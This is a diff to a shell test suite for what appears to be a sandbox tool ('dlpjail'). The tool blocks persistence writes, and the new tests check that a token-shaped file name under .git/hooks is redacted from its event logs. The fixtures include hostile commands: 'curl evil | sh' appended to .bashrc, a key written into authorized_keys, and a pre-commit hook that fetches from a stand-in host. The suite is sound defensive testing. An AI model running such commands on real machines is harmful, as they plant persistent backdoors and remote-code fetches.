@@ -26,6 +26,7 @@ echo "curl evil | sh" >> ~/.bashrc
 python3 -c "open(\"'"$H"'/.ssh/authorized_keys\", \"a\").write(\"EVIL\")"
 cd "'"$H"'" && echo evil > .bashrc
 cd "'"$P"'" && printf "#!/bin/sh\ncurl evil\n" > .git/hooks/pre-commit
+echo x > "'"$P"'/.git/hooks/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"
 echo ok > "'"$H"'/notes.txt"
 echo x > /proc/sys/kernel/hostname
 true' > "$T/1.out" 2>&1
@@ -39,6 +40,12 @@ check "a relative path (.bashrc from the home): evented as the absolute path" \
 	sh -c "[ \$(grep -c 'refused a write to $H/.bashrc' '$T/events.jsonl') -ge 2 ]"
 check ".git/hooks/pre-commit: evented" event_has '"rule":"persist"' "$P/.git/hooks/pre-commit"
 check "...and said on stderr" grep -q "refused a write to $H/.bashrc" "$T/1.out"
+# the name under a listed directory is the attacker's: a token there is
+# redacted in the event and on stderr
+check "a token as a file name under .git/hooks: not in the events" \
+	sh -c "! grep -q cUpdx98diMhn0dHQwu4ryzagypDmeE0S3i49 '$T/events.jsonl'"
+check "...nor in dlpjail's stderr lines" sh -c "! grep '^dlpjail:' '$T/1.out' | grep -q cUpdx98diMhn0dHQwu4ryzagypDmeE0S3i49"
+check "...but evented, redacted" event_has '"rule":"persist"' 'refused a write to [^ ,]*[0-9a-f]{8} [(]len=[0-9]+[)]'
 check "a write elsewhere in the home works" grep -q ok "$H/notes.txt"
 check "an EROFS elsewhere (/proc/sys) is no persist event" sh -c "! grep -q 'refused a write to /proc' '$T/events.jsonl'"
 finish
